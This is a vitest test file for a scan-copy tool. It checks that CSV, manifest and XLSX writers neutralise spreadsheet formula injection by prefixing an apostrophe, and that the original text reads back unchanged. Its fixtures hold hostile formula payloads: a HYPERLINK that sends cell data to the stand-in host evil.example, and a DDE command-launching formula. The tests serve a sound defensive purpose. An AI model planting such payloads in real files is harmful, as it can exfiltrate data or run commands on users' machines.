/**
 * Spreadsheet formula neutralisation (OWASP CSV injection) in every file a spreadsheet opens:
 * the analysis and details CSVs, the copy's failures CSV and the download manifest through
 * the one CSV writer, and the XLSX. Text that starts like a formula gets a leading
 * apostrophe; numbers and number-like text stay as they are; reading back restores the text.
 */
import { createHash } from 'node:crypto';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ANALYSIS_COLUMNS } from '../src/reports/analysis-columns.js';
import { neutraliseCell, restoreCell } from '../src/reports/cells.js';
import { formatCsv, readCsv, writeCsv } from '../src/reports/csv.js';
import { ANALYSIS_SHEET, writeAnalysisXlsx } from '../src/reports/xlsx.js';
import { MANIFEST_FILE, ManifestWriter, readManifest } from '../src/workflows/download/manifest.js';
import { analysisRow } from './helpers/analysis-rows.js';

const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+2', '-2+3', '@SUM(A1:A9)', '\tTab first', '\rCR first', "=cmd|' /C calc'!A0"];

let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'scancopy-formulas-'));
});
afterAll(() => rm(dir, { recursive: true, force: true }));

describe('neutraliseCell', () => {
  it.each(FORMULAS)('prefixes %j with an apostrophe, and restoreCell gives it back', (text) => {
    expect(neutraliseCell(text)).toBe(`'${text}`);
    expect(restoreCell(neutraliseCell(text))).toBe(text);
  });

  it.each(['-3.5', '+7', '-1e3', 'Top Shelf', '', 'a=b', '42'])('leaves %j as it is', (text) => {
    expect(neutraliseCell(text)).toBe(text);
    expect(restoreCell(text)).toBe(text);
  });

  it('escapes a leading apostrophe so that every text reads back exactly', () => {
    for (const text of ["'", "'quoted'", "'=1+1", "''=x"]) {
      expect(neutraliseCell(text)).toBe(`'${text}`);
      expect(restoreCell(neutraliseCell(text))).toBe(text);
    }
  });
});

describe('CSV files', () => {
  it('neutralise formula text in every column, keep numbers, and read back the original text', async () => {
    const path = join(dir, 'failures.csv');
    const rows = FORMULAS.map((reason, i) => [1000 + i, 'failed', '-upload', -i - 0.5, reason]);
    await writeCsv(path, ['Source_Scan_ID', 'outcome', 'stage', 'figure', 'reason'], rows);
    const text = await readFile(path, 'utf8');
    for (const line of text.split('\n').slice(1, -1)) expect(line).toMatch(/^\d+,failed,'-upload,-\d+\.5,"?'/);
    const back = await readCsv(path);
    expect(back.map((r) => r.reason)).toEqual(FORMULAS);
    expect(back.map((r) => r.stage)).toEqual(FORMULAS.map(() => '-upload'));
    expect(back.map((r) => Number(r.figure))).toEqual(FORMULAS.map((_, i) => -i - 0.5));
  });

  it('neutralise planogram and section names in the analysis CSV', () => {
    const row = analysisRow(0, 'No Issues', { source_section_name: '=1+1', target_planogram_name: '@evil' });
    const text = formatCsv(ANALYSIS_COLUMNS, [row]);
    expect(text).toContain(",'=1+1,");
    expect(text).toContain(",'@evil,");
    expect(text).not.toMatch(/,[=@+-][^0-9]/);
  });

  it('neutralise a hostile original file name in the download manifest and read it back as it was', async () => {
    const sub = await mkdtemp(join(dir, 'manifest-'));
    const original = '=HYPERLINK("http://evil.example","x").jpg';
    const writer = new ManifestWriter(sub, []);
    await writer.put({ scanId: 7, fileId: 9, fileName: '7_-Top.jpg', bytes: 3, sha256: createHash('sha256').update('abc').digest('hex'), originalFilename: original });
    await writer.compact();
    const text = await readFile(join(sub, MANIFEST_FILE), 'utf8');
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example"",""x"").jpg"`);
    const [entry] = await readManifest(sub);
    expect(entry).toMatchObject({ fileName: '7_-Top.jpg', originalFilename: original });
  });
});

describe('XLSX', () => {
  it('stores formula text as neutralised text cells and numbers as numbers', async () => {
    const path = join(dir, 'analysis_highlighted.xlsx');
    const rows = FORMULAS.map((name, i) => analysisRow(i, 'No Issues', { source_section_name: name, source_pre_pog_percentage: -1.25 }));
    await writeAnalysisXlsx(path, rows);
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(path);
    const sheet = book.getWorksheet(ANALYSIS_SHEET) as ExcelJS.Worksheet;
    const column = (name: string): ExcelJS.CellValue[] => rows.map((_, i) => sheet.getRow(i + 2).getCell(ANALYSIS_COLUMNS.indexOf(name as never) + 1).value);
    // XML reads a carriage return back as a line feed; the apostrophe is what matters.
    expect(column('source_section_name')).toEqual(FORMULAS.map((f) => `'${f}`.replace(/\r/g, '\n')));
    expect(column('source_pre_pog_percentage')).toEqual(rows.map(() => -1.25));
    expect(column('source_scan_id')).toEqual(rows.map((r) => r.source_scan_id));
    for (let i = 0; i < rows.length; i++) expect(sheet.getRow(i + 2).getCell(ANALYSIS_COLUMNS.indexOf('source_section_name') + 1).type).toBe(ExcelJS.ValueType.String);
  });
});
